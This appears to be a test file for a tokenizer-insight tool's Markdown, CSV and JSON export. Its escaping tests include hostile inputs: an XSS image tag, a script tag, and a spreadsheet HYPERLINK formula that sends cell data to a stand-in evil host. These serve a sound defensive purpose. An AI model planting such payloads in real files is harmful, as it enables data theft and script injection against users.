import * as assert from 'node:assert/strict';
import { csvCell, exportInsight } from '../../src/core/present/insightExport';
import type { InsightView } from '../../src/core/insights/insightView';
import { hostileInsightView, sampleInsightView } from '../fixtures/insightView';
import { parseCsv, tiny } from './support/insightExportFixture';

describe('insight export: Markdown', () => {
  it('writes a heading and one table per section, numbers as the panel shows them', () => {
    const expected = [
      '# Tokenscope insight: a.md',
      '',
      'Selection, 12 characters. Model: GPT-4o (o200k\\_base, exact).',
      '',
      '## At a glance',
      '',
      '- Tokens: **4** tokens, exact',
      '- Fit: **\\<0.1%** of 112k usable: 128k window − 16k kept for output',
      '- Cost: **$0.00001** input of this text; $0.001 with 100 tokens of output',
      '- Cheapest: **GPT-4o** cheapest exact model: $0.00001 input',
      '- Most compact: **GPT-4o** most compact exact model: 4 tokens',
      '',
      '## Models (output: 100 tokens)',
      '',
      '| Model | Provider | Tokens | Usable window | Share | Input | Cached input | Output | Total |',
      '| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
      '| GPT-4o | OpenAI | 4 | 111,616 | <0.1% | $0.00001 | $0.000005 | $0.001 | $0.001 |',
      '| My, "quoted" model | Custom | ≈5 ±10% (estimated) | 1,000 | 0.5% | — | — | — | — |',
      '',
      'Total: the input cost of this text plus the cost of 100 tokens of output; cached input is not assumed.',
      '',
      '- Prices: genai-prices 0.1.8 (OpenAI), 2026-01-01 (GPT-4o)',
      '',
      '## Compression (o200k\\_base)',
      '',
      '| Measure | Value |',
      '| --- | ---: |',
      '| Tokens | 4 |',
      '| Characters | 12 |',
      '| UTF-8 bytes | 12 |',
      '| Words | 3 |',
      '| Characters per token | 3.00 |',
      '| Bytes per token | 3.00 |',
      '| Tokens per word | 1.33 |',
      '| Entropy (bits per token) | 2.00 |',
      '| Distinct tokens | 4 (100.0%) |',
      '| Tokens inside one character | 0 |',
      '',
      '### Token lengths',
      '',
      '| Characters | Tokens |',
      '| ---: | ---: |',
      '| 1 | 1 |',
      '| 2 | 1 |',
      '| 3 | 1 |',
      '| 4+ | 1 |',
      '',
      '### Most frequent tokens',
      '',
      '| Token | Id | Count |',
      '| --- | ---: | ---: |',
      '| `Hi` | 1 | 1 |',
      '| ` there` | 2 | 1 |',
      '',
      '## Where tokenizers disagree: GPT-4o vs My, "quoted" model',
      '',
      '| Text | GPT-4o | My, "quoted" model | More tokens |',
      '| --- | ---: | ---: | --- |',
      '| `Hi ` | 1 | 2 | My, "quoted" model +1 |',
      '',
      'There are more spans than the 1 listed.',
      '',
      '## By script',
      '',
      '| Script | Characters | Tokens | Characters per token |',
      '| --- | ---: | ---: | ---: |',
      '| Latin | 9 | 3 | 3.00 |',
      '| Common | 3 | 1 | 3.00 |',
      '',
    ].join('\n');
    assert.equal(exportInsight(tiny, 'markdown'), expected);
  });

  it('keeps markup from a file name, a model name or a token text out of the rendered Markdown', () => {
    const view: InsightView = {
      ...hostileInsightView,
      models: [{ ...tiny.models[0], displayName: 'a|b *c* [d](e)' }],
      compression: { ...hostileInsightView.compression, topTokens: [{ id: 9, text: 'x|y`z', raw: 'x|y`z', count: 1 }] },
    };
    const md = exportInsight(view, 'markdown');
    assert.ok(md.startsWith('# Tokenscope insight: @evil\\<img src=x onerror="alert(1)"\\>.md\n'), md.split('\n')[0]);
    assert.doesNotMatch(md, /(^|[^\\])<img/);
    assert.match(md, /^\| a\\\|b \\\*c\\\* \\\[d\\\]\(e\) \| OpenAI \|/m);
    // A code span for the token, its backtick fenced by two, the pipe escaped for the table.
    assert.match(md, /^\| ``x\\\|y`z`` \| 9 \| 1 \|$/m);
    // The span's text on one line, inside a code span, where HTML is not interpreted.
    assert.match(md, /^\| `He said, "hi"\\n<script>alert\(1\)<\/script>` \| 12 \| 14 \| Claude Sonnet 4\.5 \+2 \|$/m);
  });

  it('leaves out the disagreement section when no pair is compared', () => {
    const md = exportInsight({ ...tiny, compare: undefined }, 'markdown');
    assert.doesNotMatch(md, /disagree/);
    assert.match(md, /## By script/);
  });
});

describe('insight export: CSV', () => {
  it('is one long table section,item,measure,value with CRLF line ends', () => {
    const expected = [
      'section,item,measure,value',
      'source,a.md,scope,selection',
      'source,a.md,chars,12',
      'current_model,gpt-4o,display_name,GPT-4o',
      'current_model,gpt-4o,tokenizer,o200k_base',
      'current_model,gpt-4o,exact,true',
      'compression,o200k_base,tokens,4',
      'compression,o200k_base,chars,12',
      'compression,o200k_base,bytes,12',
      'compression,o200k_base,words,3',
      'compression,o200k_base,chars_per_token,3',
      'compression,o200k_base,bytes_per_token,3',
      'compression,o200k_base,tokens_per_word,1.3333',
      'compression,o200k_base,entropy_bits_per_token,2',
      'compression,o200k_base,distinct_tokens,4',
      'compression,o200k_base,distinct_share,1',
      'compression,o200k_base,partial_tokens,0',
      'token_length,1,tokens,1',
      'token_length,2,tokens,1',
      'token_length,3,tokens,1',
      'token_length,4+,tokens,1',
      'summary,gpt-4o,tokens,4',
      'summary,gpt-4o,exact,true',
      'summary,gpt-4o,usable_window,111616',
      'summary,gpt-4o,window_share_pct,0.0036',
      'summary,gpt-4o,input_cost_usd,0.00001',
      'summary,gpt-4o,total_cost_usd,0.00101',
      'summary,gpt-4o,cheapest_exact_input_cost_usd,0.00001',
      'summary,gpt-4o,most_compact_exact_tokens,4',
      'top_token,1,text,Hi',
      'top_token,1,count,1',
      'top_token,2,text," there"',
      'top_token,2,count,1',
      'models,,expected_output_tokens,100',
      'model,gpt-4o,display_name,GPT-4o',
      'model,gpt-4o,provider,OpenAI',
      'model,gpt-4o,tokens,4',
      'model,gpt-4o,exact,true',
      'model,gpt-4o,error_label,',
      'model,gpt-4o,usable_window,111616',
      'model,gpt-4o,window_share_pct,0.0036',
      'model,gpt-4o,input_cost_usd,0.00001',
      'model,gpt-4o,cached_input_cost_usd,0.000005',
      'model,gpt-4o,output_cost_usd,0.001',
      'model,gpt-4o,total_cost_usd,0.00101',
      'model,gpt-4o,price_source,genai-prices 0.1.8 (OpenAI)',
      'model,gpt-4o,price_date,2026-01-01',
      'model,x,display_name,"My, ""quoted"" model"',
      'model,x,provider,Custom',
      'model,x,tokens,5',
      'model,x,exact,false',
      'model,x,error_label,±10% (estimated)',
      'model,x,usable_window,1000',
      'model,x,window_share_pct,0.5',
      'model,x,input_cost_usd,',
      'model,x,cached_input_cost_usd,',
      'model,x,output_cost_usd,',
      'model,x,total_cost_usd,',
      'model,x,price_source,',
      'model,x,price_date,',
      'disagreements,,model_a,gpt-4o',
      'disagreements,,model_b,x',
      'disagreements,,truncated,true',
      'disagreement,0-3,text,"Hi "',
      'disagreement,0-3,tokens_a,1',
      'disagreement,0-3,tokens_b,2',
      'script,Latin,chars,9',
      'script,Latin,tokens,3',
      'script,Latin,chars_per_token,3',
      'script,Common,chars,3',
      'script,Common,tokens,1',
      'script,Common,chars_per_token,3',
      '',
    ].join('\r\n');
    assert.equal(exportInsight(tiny, 'csv'), expected);
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell('cr\rhere'), '"cr\rhere"');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(0.5), '0.5');
    assert.equal(csvCell(false), 'false');
  });

  it('neutralises cells a spreadsheet would run as a formula with a leading quote (OWASP)', () => {
    assert.equal(csvCell('=1+1'), "'=1+1");
    assert.equal(csvCell('+1'), "'+1");
    assert.equal(csvCell('-1'), "'-1");
    assert.equal(csvCell('@SUM(A1)'), "'@SUM(A1)");
    assert.equal(csvCell('\tx'), "'\tx");
    assert.equal(csvCell('\rx'), `"'\rx"`);
    assert.equal(csvCell('=HYPERLINK("https://evil.example/?d="&A1,"click")'), `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`);
    // Only a leading character counts: inside a cell these are ordinary text.
    assert.equal(csvCell('a=b-c'), 'a=b-c');
  });

  it('reads back as a table of four columns with every hostile text intact and inert', () => {
    const rows = parseCsv(exportInsight(hostileInsightView, 'csv'));
    assert.deepEqual(rows[0], ['section', 'item', 'measure', 'value']);
    for (const row of rows) {
      assert.equal(row.length, 4, JSON.stringify(row));
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a formula cell: ${JSON.stringify(cell)}`);
    }
    assert.deepEqual(rows[1], ['source', `'@evil<img src=x onerror="alert(1)">.md`, 'scope', 'file']);
    assert.deepEqual(
      rows.find((r) => r[0] === 'top_token' && r[2] === 'text'),
      ['top_token', '1', 'text', `'=HYPERLINK("https://evil.example/?d="&A1,"click")`],
    );
    assert.deepEqual(
      rows.find((r) => r[0] === 'disagreement' && r[2] === 'text'),
      ['disagreement', '5-40', 'text', 'He said, "hi"\n<script>alert(1)</script>'],
    );
  });

  it('has a row per number of the sample view', () => {
    const rows = parseCsv(exportInsight(sampleInsightView, 'csv'));
    const v = sampleInsightView;
    // 1 header + 2 source + 3 model + 11 compression + histogram + 6 summary + the picks and
    // contenders + 2 per top token + 1 output + 13 per model + 3 compare + 3 per span + 3 per script.
    const s = v.summary;
    const expected =
      1 +
      2 +
      3 +
      11 +
      v.compression.lengthHistogram.counts.length +
      6 +
      (s.cheapest ? 1 : 0) +
      (s.mostCompact ? 1 : 0) +
      s.cheaperApprox.length +
      s.compacterApprox.length +
      2 * v.compression.topTokens.length +
      1 +
      13 * v.models.length +
      3 +
      3 * v.compare!.spans.length +
      3 * v.scripts.length;
    assert.equal(rows.length, expected);
    assert.deepEqual(
      rows.find((r) => r[0] === 'token_length' && r[1] === '10+'),
      ['token_length', '10+', 'tokens', '2'],
    );
  });
});

describe('insight export: JSON', () => {
  it('holds the numbers in a fixed key order, missing prices as null, indented by two', () => {
    const text = exportInsight(tiny, 'json');
    assert.ok(text.endsWith('}\n'));
    assert.ok(text.startsWith('{\n  "source": {\n    "fileName": "a.md",\n    "scope": "selection",\n    "chars": 12\n  },\n  "model": {'), text.slice(0, 120));
    const data = JSON.parse(text);
    assert.deepEqual(Object.keys(data), ['source', 'model', 'summary', 'compression', 'expectedOutputTokens', 'models', 'disagreements', 'scripts']);
    assert.deepEqual(data.summary, {
      tokens: 4,
      exact: true,
      contextWindow: 128_000,
      reservedOutputTokens: 16_384,
      usableWindow: 111_616,
      windowSharePct: 0.0036,
      inputCost: 0.00001,
      totalCost: 0.00101,
      cheapestExact: { id: 'gpt-4o', inputCost: 0.00001 },
      cheaperApprox: [],
      mostCompactExact: { id: 'gpt-4o', tokens: 4 },
      compacterApprox: [],
    });
    assert.deepEqual(data.compression.topTokens, [
      { id: 1, text: 'Hi', count: 1 },
      { id: 2, text: ' there', count: 1 },
    ]);
    assert.deepEqual(Object.keys(data.models[0]), [
      'id',
      'displayName',
      'provider',
      'tokens',
      'exact',
      'errorLabel',
      'usableWindow',
      'windowSharePct',
      'inputCost',
      'cachedInputCost',
      'outputCost',
      'totalCost',
      'priceSource',
      'priceDate',
    ]);
    assert.deepEqual(data.models[1], {
      id: 'x',
      displayName: 'My, "quoted" model',
      provider: 'Custom',
      tokens: 5,
      exact: false,
      errorLabel: '±10% (estimated)',
      usableWindow: 1000,
      windowSharePct: 0.5,
      inputCost: null,
      cachedInputCost: null,
      outputCost: null,
      totalCost: null,
      priceSource: null,
      priceDate: null,
    });
    assert.equal(data.compression.tokensPerWord, 1.3333);
    assert.deepEqual(data.compression.lengthHistogram, { counts: [1, 1, 1, 1], lastBucketOpen: true });
    assert.deepEqual(data.disagreements, { a: 'gpt-4o', b: 'x', truncated: true, spans: [{ start: 0, end: 3, text: 'Hi ', tokensA: 1, tokensB: 2 }] });
    assert.equal(data.model.note, null);
    assert.equal('modelChoices' in data, false);
  });

  it('does not depend on the order of the keys the host sent', () => {
    const reversed = <T extends object>(o: T): T => Object.fromEntries(Object.entries(o).reverse()) as T;
    const shuffled: InsightView = { ...reversed(tiny), models: tiny.models.map(reversed), compression: reversed(tiny.compression), source: reversed(tiny.source) };
    assert.equal(exportInsight(shuffled, 'json'), exportInsight(tiny, 'json'));
  });

  it('writes an uncompared view with null disagreements', () => {
    assert.equal(JSON.parse(exportInsight({ ...tiny, compare: undefined }, 'json')).disagreements, null);
  });
});
